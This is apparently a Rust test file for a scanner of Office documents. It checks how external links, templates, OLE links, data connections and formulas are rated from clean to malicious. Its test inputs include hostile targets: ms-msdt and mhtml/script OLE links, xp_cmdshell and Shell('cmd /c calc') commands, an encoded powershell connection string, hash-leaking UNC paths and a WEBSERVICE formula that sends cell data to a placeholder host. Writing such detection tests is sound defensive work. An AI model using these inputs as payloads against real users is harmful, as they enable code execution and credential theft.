//! Links that lead to another document, and what stands beside them.

use super::*;

/// Word specification, sections 1.7, 6.1 to 6.4.
#[test]
fn external_links() {
    use Carrier::*;
    use Verdict::*;
    for (carrier, target, expected, severity) in [
        (
            RemoteTemplate,
            "http://x/t.dotm",
            Suspicious,
            Severity::High,
        ),
        (
            RemoteTemplate,
            "https://x/t.dot",
            Suspicious,
            Severity::High,
        ),
        (
            RemoteTemplate,
            "\\\\10.1.2.3\\s\\t.dotm",
            Suspicious,
            Severity::High,
        ),
        (
            RemoteTemplate,
            "\\\\server\\templates\\t.dotm",
            Clean,
            Severity::Medium,
        ),
        (
            RemoteTemplate,
            "C:\\Users\\a\\Templates\\x.dotm",
            Clean,
            Severity::Info,
        ),
        (RemoteTemplate, "Normal.dotm", Clean, Severity::Info),
        (
            RemoteTemplate,
            "\\??\\UNC\\example.invalid\\s\\t",
            Suspicious,
            Severity::High,
        ),
        (
            RemoteTemplate,
            "\\\\;LanmanRedirector\\example.invalid\\s\\t",
            Suspicious,
            Severity::High,
        ),
        (
            RemoteTemplate,
            "ms-word:ofe|u|http://example.invalid/t",
            Suspicious,
            Severity::High,
        ),
        (
            RemoteTemplate,
            "url:http://example.invalid/t",
            Suspicious,
            Severity::High,
        ),
        (
            RemoteTemplate,
            "data:application/msword;base64,AAAA",
            Suspicious,
            Severity::High,
        ),
        (
            RemoteTemplate,
            "file://localhost@80/t",
            Suspicious,
            Severity::High,
        ),
        (
            RemoteTemplate,
            "\\\\127.0.0.1@80\\t",
            Suspicious,
            Severity::High,
        ),
        (
            Hyperlink,
            "ms-excel:ofe|u|https://example.com/x.xlsx",
            Clean,
            Severity::Info,
        ),
        (
            Hyperlink,
            "http://example.com/search?q=mhtml:x!x-usc:",
            Clean,
            Severity::Info,
        ),
        (
            Hyperlink,
            "C:\\Program Files\\App\\app.exe",
            Clean,
            Severity::Info,
        ),
        (Hyperlink, "search-ms:query=foo", Clean, Severity::Info),
        (Frame, "http://x/p.docx", Suspicious, Severity::High),
        (OleLink, "http://x/a.doc", Suspicious, Severity::High),
        (
            OleLink,
            "file:///C:\\data\\book.xlsx!Sheet1!R1C1",
            Clean,
            Severity::Info,
        ),
        (
            OleLink,
            "mhtml:http://h/x.html!x-usc:http://h/x.html",
            Malicious,
            Severity::Critical,
        ),
        (
            OleLink,
            "https://h/RDF842l.html!",
            Malicious,
            Severity::Critical,
        ),
        (
            OleLink,
            "ms-msdt:/id PCWDiagnostic",
            Malicious,
            Severity::Critical,
        ),
        (
            OleLink,
            "script:http://x/a.sct",
            Malicious,
            Severity::Critical,
        ),
        (SubDocument, "ftp://x/a.docx", Suspicious, Severity::High),
        (AltChunk, "https://x/a.rtf", Suspicious, Severity::High),
        (LinkField, "http://x/a.doc", Suspicious, Severity::High),
        (IncludeText, "\\\\host\\s\\a.docx", Clean, Severity::Medium),
        (
            IncludeText,
            "\\\\h.example\\s\\a.docx",
            Suspicious,
            Severity::High,
        ),
        (IncludePicture, "http://x/u.png", Clean, Severity::Low),
        (
            ExternalWorkbook,
            "https://x/a.xlsx",
            Clean,
            Severity::Medium,
        ),
        (
            ExternalWorkbook,
            "\\\\server\\s\\a.xlsx",
            Clean,
            Severity::Medium,
        ),
        (ExternalWorkbook, "a.xlsx", Clean, Severity::Info),
        (Hyperlink, "https://example.com", Clean, Severity::Info),
        (Hyperlink, "http://1.2.3.4/a.exe", Clean, Severity::Info),
        (
            Hyperlink,
            "mailto:a@b.example?subject=x",
            Clean,
            Severity::Info,
        ),
        (Hyperlink, "javascript:void(0)", Clean, Severity::Info),
        (Hyperlink, "www.example.com", Clean, Severity::Info),
        (Hyperlink, "#Sheet1!A1", Clean, Severity::Info),
        (Hyperlink, "../contracts/annex 1.pdf", Clean, Severity::Info),
        (Hyperlink, "\\\\server\\share\\a.docx", Clean, Severity::Low),
        (Hyperlink, "file://a.example/s/a.docx", Clean, Severity::Low),
        (
            Hyperlink,
            "search-ms:query=a&crumb=location:\\\\x\\s",
            Suspicious,
            Severity::High,
        ),
        (Hyperlink, "ms-officecmd:x", Suspicious, Severity::High),
        (Hyperlink, "vbscript:x", Suspicious, Severity::High),
        (
            Hyperlink,
            "..\\..\\windows\\system32\\cmd.exe",
            Suspicious,
            Severity::High,
        ),
        (MailMerge, "http://x/b.xls", Suspicious, Severity::High),
        (MailMerge, "C:\\b.xls", Clean, Severity::Info),
        (WebQuery, "http://x.example/x.dat", Clean, Severity::Medium),
        (WebQuery, "http://1.2.3.4/x.dat", Suspicious, Severity::High),
        (
            Connection,
            "OLEDB;Provider=SQLOLEDB;Data Source=srv",
            Clean,
            Severity::Info,
        ),
        (
            Connection,
            "EXEC master..xp_cmdshell 'powershell'",
            Malicious,
            Severity::Critical,
        ),
        (
            DatabaseField,
            "DSN=x;DBQ=\\\\h\\s\\a.mdb",
            Suspicious,
            Severity::High,
        ),
        (
            DatabaseField,
            "DSN=x;DBQ=C:\\data\\a.mdb",
            Clean,
            Severity::Info,
        ),
        (
            Function,
            "WEBSERVICE(\"http://x/?\"&A1)",
            Clean,
            Severity::Medium,
        ),
        (
            Function,
            "RTD(\"bloomberg.rtd\",\"\",\"x\")",
            Clean,
            Severity::Info,
        ),
        (MacroButton, "NoMacro", Clean, Severity::Info),
    ] {
        let finding = external(carrier, target);
        assert_eq!(
            (verdict(&finding), finding.severity),
            (expected, severity),
            "{carrier:?} {target} {:?}",
            rules(&finding)
        );
    }
    let template = external(RemoteTemplate, "http://x.y/t.dotm");
    assert_eq!(template.attack, ["T1204.002", "T1221"]);
    assert_eq!(template.indicators[0].defanged, "hxxp://x[.]y/t.dotm");
    assert_eq!(template.command, None);
}

/// Spreadsheet specification, sections 1.5 and 1.6: the target is the server or the first
/// argument, the command and the function stand in the text around it.
#[test]
fn what_stands_beside_the_target() {
    let of = |carrier, target: &str, raw: &str, trigger| {
        let mut link = link(Kind::ExternalLink, carrier);
        link.target = Some(target.to_owned());
        link.raw = raw.to_owned();
        link.trigger = trigger;
        judged(link)
    };
    for (target, raw) in [
        (
            "10.1.1.1",
            "connection=\"DRIVER=SQL;SERVER=10.1.1.1\" command=\"EXEC xp_cmdshell 'calc'\"",
        ),
        ("C:\\a.mdb", "command=\"SELECT Shell('cmd /c calc')\""),
        ("C:\\a.mdb", "command=\"SELECT Shell ('calc.exe')\""),
        (
            "x",
            "connection=\"SERVER=x;APP=powershell -enc aaaa\" serverCommand=\"EXEC master..xp_cmdshell 'calc'\"",
        ),
    ] {
        let query = of(Carrier::Connection, target, raw, Trigger::Update);
        assert_eq!(query.score, 85, "{raw}");
    }
    let address = "http://example.invalid/a";
    for (target, raw) in [
        (address, "_xlfn.WEBSERVICE(\"http://example.invalid/a\"&A1)"),
        (address, "_xlfn.IMAGE(\"http://example.invalid/a\")"),
        (
            "\\\\10.0.0.9\\s\\a.png",
            "IMAGE(\"\\\\10.0.0.9\\s\\a.png\")",
        ),
    ] {
        let function = of(Carrier::Function, target, raw, Trigger::Update);
        assert_eq!(rules(&function)[0], "fetching-function", "{raw}");
        // Four more for the password hash that a server gets.
        let score = if target == address { 40 } else { 44 };
        assert_eq!(
            (function.score, function.severity),
            (score, Severity::Medium)
        );
        assert!(function.signals[0].evidence.ends_with(target), "{raw}");
    }
    let raw = "HYPERLINK(\"http://example.invalid/a\",\"x\")";
    let click = of(Carrier::Function, address, raw, Trigger::Click);
    assert_eq!(rules(&click), ["ordinary-hyperlink"]);
    let raw = "HYPERLINK(\"\\\\server\\s\\a.docx\")";
    let click = of(
        Carrier::Function,
        "\\\\server\\s\\a.docx",
        raw,
        Trigger::Click,
    );
    assert_eq!(click.score, 25);
    let server = of(
        Carrier::Function,
        "tos.rtd",
        "RTD(\"tos.rtd\",,\"LAST\")",
        Trigger::Update,
    );
    assert!(server.score < 11);
}
